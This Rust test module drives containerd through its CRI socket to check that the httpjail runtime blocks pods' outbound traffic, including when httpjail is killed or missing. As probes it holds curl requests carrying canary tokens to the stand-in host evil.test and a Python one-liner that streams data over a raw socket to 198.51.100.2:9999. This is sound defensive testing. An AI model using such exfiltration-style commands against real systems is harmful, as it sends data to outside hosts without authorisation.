//! containerd, spoken to as Kubernetes does: by its CRI socket, a pod's sandbox first and then containers in it.

mod kubernetes;
mod together;

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use httpjail_lab::{JailBuilder, Running, canary, eventually};

use super::cli::Kind;
use super::host::{BROKEN, Host, OK};
use super::rows::Rows;
use crate::run::{command, quietly, root};
use crate::suites::table::Table;

const PYTHON: &str = "/usr/bin/python3";
/// What the imported Debian is called.
pub(crate) const IMAGE: &str = "docker.io/lab/debian:latest";
const PATIENCE: Duration = Duration::from_secs(60);
/// The namespace that root's table knows.
const AGENTS: &str = "agents";
const POLICY: &str = "httpjail.policy=ok";
const STREAM: &str = "import socket as k,sys\ns=k.create_connection(('198.51.100.2',9999),5)\ns.sendall(sys.argv[1].encode())\ns.recv(1)";

/// containerd on a host.
pub(crate) struct Containerd<'host> {
    host: &'host Host<'host>,
    dir: PathBuf,
    daemon: Running,
}

/// Some rows; an error is a row too.
type Part<'host> = fn(&Containerd<'host>, &mut Rows<'host>) -> Result<()>;

/// A pod with its containers.
struct Pod {
    id: String,
    containers: Vec<String>,
    /// The cgroup that is its own, or `-`.
    parent: String,
}

impl<'host> Containerd<'host> {
    /// Starts it with httpjail as one of its runtimes, and gives it the image.
    pub(crate) fn start(host: &'host Host<'host>, image: &Path) -> Result<Self> {
        let dir = host.lab().dir().join("containerd");
        fs::create_dir_all(&dir).context("make containerd's folder")?;
        host.install()?;
        let config = host.lab().file("config.toml", config(&dir));
        let network = host.lab().file("network.conflist", network(&dir));
        let script = format!(
            "set -e; umask 22; mkdir -p /etc/containerd /etc/cni/net.d; cp {} /etc/containerd/config.toml; cp {} /etc/cni/net.d/10-lab.conflist
             printf 'version: 1\npods:\n- {{namespace: {AGENTS}, policies: [{OK}, {BROKEN}]}}\n' > /etc/httpjail/runtime.yaml
             httpjail runtime install containerd",
            config.display(),
            network.display()
        );
        let outcome = host.command(&["sh", "-c", &script]).run();
        ensure!(outcome.code() == Some(0), "configure containerd: {}", outcome.stderr);
        let daemon = host.command(&["containerd"]).limit(Duration::from_secs(3600)).start()?;
        let engine = Containerd { host, dir, daemon };
        let archive = engine.dir.join("image.tar");
        let (from, to) = (image.display().to_string(), archive.display().to_string());
        quietly(&mut command(PYTHON, ["tests/suites/oci_image.py", &from, IMAGE, &to]))?;
        let socket = engine.socket();
        let import = [
            "ctr",
            "--address",
            &socket,
            "--namespace",
            "k8s.io",
            "images",
            "import",
            &to,
        ];
        let up = eventually(PATIENCE, || engine.host.command(&import).run().code() == Some(0));
        ensure!(up, "containerd takes no image: {}", engine.daemon.stderr());
        Ok(engine)
    }

    /// How it is spoken to.
    pub(crate) fn words(&self) -> Vec<String> {
        let client = root().join("tests/suites/cri.py").display().to_string();
        vec![PYTHON.to_owned(), client, self.socket()]
    }

    fn socket(&self) -> String {
        self.dir.join("socket").display().to_string()
    }

    fn call<S: AsRef<str>>(&self, arguments: &[S]) -> JailBuilder<'host> {
        let words: Vec<String> = self
            .words()
            .into_iter()
            .chain(arguments.iter().map(|word| word.as_ref().to_owned()))
            .collect();
        self.host.command(&words)
    }

    /// A pod of two containers that stay, with a cgroup as the kubelet makes it; what was said if it does not start.
    fn pod(&self, name: &str, namespace: &str, handler: &str, annotations: &[&str]) -> Result<Pod> {
        self.pod_below(&own_cgroup(), name, namespace, handler, annotations)
    }

    /// The same below another cgroup.
    fn pod_below(&self, parent: &str, name: &str, namespace: &str, handler: &str, annotations: &[&str]) -> Result<Pod> {
        let words: Vec<&str> = ["run", name, namespace, handler, parent, IMAGE, "2"]
            .iter()
            .chain(annotations)
            .copied()
            .collect();
        let outcome = self.call(&words).run();
        let mut ids = outcome.stdout.lines().map(str::to_owned);
        let pod = ids.next();
        ensure!(outcome.code() == Some(0), "{}", outcome.stderr);
        Ok(Pod {
            id: pod.context("a pod's id")?,
            containers: ids.collect(),
            parent: parent.to_owned(),
        })
    }

    /// One more container in a pod, of that number.
    fn add(&self, pod: &Pod, name: &str, number: &str, annotations: &[&str]) -> JailBuilder<'host> {
        let words = ["add", &pod.id, name, AGENTS, "httpjail", &pod.parent, IMAGE, number];
        let words: Vec<&str> = words.iter().chain(annotations).copied().collect();
        self.call(&words)
    }

    fn exec(&self, container: &str, command: &[&str]) -> JailBuilder<'host> {
        let words: Vec<&str> = ["exec", container].iter().chain(command).copied().collect();
        self.call(&words)
    }

    fn remove(&self, pod: &Pod) -> Result<()> {
        let outcome = self.call(&["remove", &pod.id]).run();
        ensure!(outcome.code() == Some(0), "remove a pod: {}", outcome.stderr);
        Ok(())
    }

    /// Runs all trials.
    pub(crate) fn trials(&self) -> Result<Table> {
        let mut rows = Rows::new(Kind::Containerd.name(), self.host.lab());
        let parts: [(&str, Part<'host>); 6] = [
            ("pods", Self::pods),
            ("together", Self::together),
            ("policies", Self::policies),
            ("deploy/kubernetes", kubernetes::trials),
            ("killed", Self::killed),
            ("refused", Self::refused),
        ];
        for (name, part) in parts {
            if let Err(error) = part(self, &mut rows) {
                rows.fault(name, &error);
            }
        }
        Ok(rows.table())
    }

    fn pods(&self, rows: &mut Rows<'host>) -> Result<()> {
        let plain = self.pod("plain", AGENTS, "runc", &[])?;
        let held = self.pod("held", AGENTS, "httpjail", &[POLICY])?;
        let mark = canary();
        let run = self.exec(
            &plain.containers[0],
            &["curl", "-sSk", &format!("https://evil.test/{mark}")],
        );
        rows.arrives("without httpjail: a request that the policy denies", &mark, run);
        for (number, container) in held.containers.iter().enumerate() {
            for (version, flag) in [("IPv4", "-4"), ("IPv6", "-6")] {
                let (allowed, denied) = (canary(), canary());
                let run = self.exec(container, &["curl", "-sS", flag, &format!("https://ok.test/{allowed}")]);
                rows.arrives(
                    &format!("container {number} of a pod, {version}: allowed"),
                    &allowed,
                    run,
                );
                let run = self.exec(
                    container,
                    &["curl", "-sSk", flag, &format!("https://evil.test/{denied}")],
                );
                rows.silent(&format!("container {number} of a pod, {version}: denied"), &denied, run);
            }
            let mark = canary();
            let run = self.exec(container, &["python3", "-c", STREAM, &mark]);
            rows.silent(&format!("container {number} of a pod: a stream"), &mark, run);
        }
        self.remove(&plain)?;
        self.remove(&held)
    }

    fn policies(&self, rows: &mut Rows<'host>) -> Result<()> {
        for (what, namespace, annotations) in [
            ("a namespace that may not name the policy", "default", &[POLICY][..]),
            ("no policy is named", AGENTS, &[]),
        ] {
            let pod = self.pod("other", namespace, "httpjail", annotations)?;
            let mark = canary();
            let run = self.exec(
                &pod.containers[0],
                &["curl", "-sSk", &format!("https://ok.test/{mark}")],
            );
            rows.silent(what, &mark, run);
            self.remove(&pod)?;
        }
        Ok(())
    }

    fn killed(&self, rows: &mut Rows<'host>) -> Result<()> {
        let pod = self.pod("killed", AGENTS, "httpjail", &[POLICY])?;
        self.host.kill_httpjail()?;
        for (number, container) in pod.containers.iter().enumerate() {
            for (what, host) in [("an allowed request", "ok.test"), ("a denied request", "evil.test")] {
                let mark = canary();
                let run = self.exec(
                    container,
                    &["curl", "-sSk", "--max-time", "5", &format!("https://{host}/{mark}")],
                );
                rows.silent(
                    &format!("httpjail was killed: {what} of container {number}"),
                    &mark,
                    run,
                );
            }
        }
        let outcome = self.add(&pod, "killed", "2", &[POLICY]).run();
        let good = outcome.code() != Some(0) && outcome.stderr.contains("is not held any more");
        rows.row(
            "httpjail was killed: one more container in the pod",
            good,
            "does not start".to_owned(),
            &outcome,
        );
        self.remove(&pod)
    }

    /// A pod that cannot be held does not start, and the CRI says why.
    fn refused(&self, rows: &mut Rows<'host>) -> Result<()> {
        let outcome = self
            .call(&[
                "run",
                "broken",
                AGENTS,
                "httpjail",
                &own_cgroup(),
                IMAGE,
                "1",
                "httpjail.policy=broken",
            ])
            .run();
        let good = outcome.code() != Some(0) && outcome.stderr.contains("broken.yaml");
        rows.row(
            "a policy that cannot be read",
            good,
            "does not start".to_owned(),
            &outcome,
        );
        let hide = self
            .host
            .command(&["mv", "/usr/local/bin/httpjail", "/usr/local/bin/hidden"])
            .run();
        ensure!(hide.code() == Some(0), "hide httpjail: {}", hide.stderr);
        let outcome = self
            .call(&["run", "hidden", AGENTS, "httpjail", &own_cgroup(), IMAGE, "1", POLICY])
            .run();
        rows.row(
            "httpjail is not there",
            outcome.code() != Some(0),
            "does not start".to_owned(),
            &outcome,
        );
        Ok(())
    }
}

/// The cgroup of a new pod, as the kubelet names it.
fn own_cgroup() -> String {
    let digits: String = canary()
        .bytes()
        .chain(canary().bytes())
        .map(|byte| format!("{byte:02x}"))
        .collect();
    format!("/kubepods/besteffort/pod{}", &digits[digits.len() - 32..])
}

fn config(dir: &Path) -> String {
    let dir = dir.display();
    format!(
        "version = 2
root = '{dir}/root'
state = '{dir}/state'
[grpc]
  address = '{dir}/socket'
[plugins.'io.containerd.grpc.v1.cri']
  sandbox_image = '{IMAGE}'
  disable_apparmor = true
  restrict_oom_score_adj = true
  [plugins.'io.containerd.grpc.v1.cri'.cni]
    bin_dir = '/usr/lib/cni'
    conf_dir = '/etc/cni/net.d'
"
    )
}

/// A bridge with addresses of both families.
fn network(dir: &Path) -> String {
    let data = dir.join("addresses").display().to_string();
    format!(
        r#"{{"cniVersion": "0.4.0", "name": "lab", "plugins": [{{"type": "bridge", "bridge": "cni-lab", "isGateway": true, "ipMasq": true,
"ipam": {{"type": "host-local", "dataDir": "{data}", "ranges": [[{{"subnet": "10.88.0.0/16"}}], [{{"subnet": "fd00:88::/64"}}]],
"routes": [{{"dst": "0.0.0.0/0"}}, {{"dst": "::/0"}}]}}}}]}}"#
    )
}
